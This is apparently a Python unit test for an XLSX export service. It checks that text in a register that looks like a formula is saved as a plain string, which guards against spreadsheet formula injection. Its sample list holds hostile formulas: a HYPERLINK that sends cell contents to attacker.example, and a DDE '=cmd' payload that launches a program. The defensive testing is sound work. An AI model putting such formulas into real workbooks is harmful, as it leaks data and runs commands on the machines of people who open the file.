"""A workbook prints what was recorded as text, never as a formula: a nonconformity, a unit's name or a
recommendation typed as "=HYPERLINK(…)" or "=cmd|…" is a cell of text in the register, not a formula every
office's Excel would evaluate (formula injection)."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from isotrail.services.documents.xlsx import HEADER_ROW, render_xlsx

HOSTILE = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Chi tiết")', "=cmd|' /C calc'!A0", "=1+1"]


def test_text_that_looks_like_a_formula_stays_text() -> None:
    body = {"title": "Sổ theo dõi", "subtitle": "=2+2", "columns": ["TT", "Nội dung"], "widths": [6, 60],
            "rows": [[index, text] for index, text in enumerate(HOSTILE, start=1)]}
    sheet = load_workbook(io.BytesIO(render_xlsx({"body": body}))).active
    cells = [sheet.cell(HEADER_ROW + offset, 2) for offset in range(1, len(HOSTILE) + 1)]
    assert [cell.value for cell in cells] == HOSTILE
    assert {cell.data_type for cell in cells} == {"s"} and sheet.cell(2, 1).data_type == "s"
    assert sheet.cell(HEADER_ROW + 1, 1).data_type == "n"  # numbers stay numbers
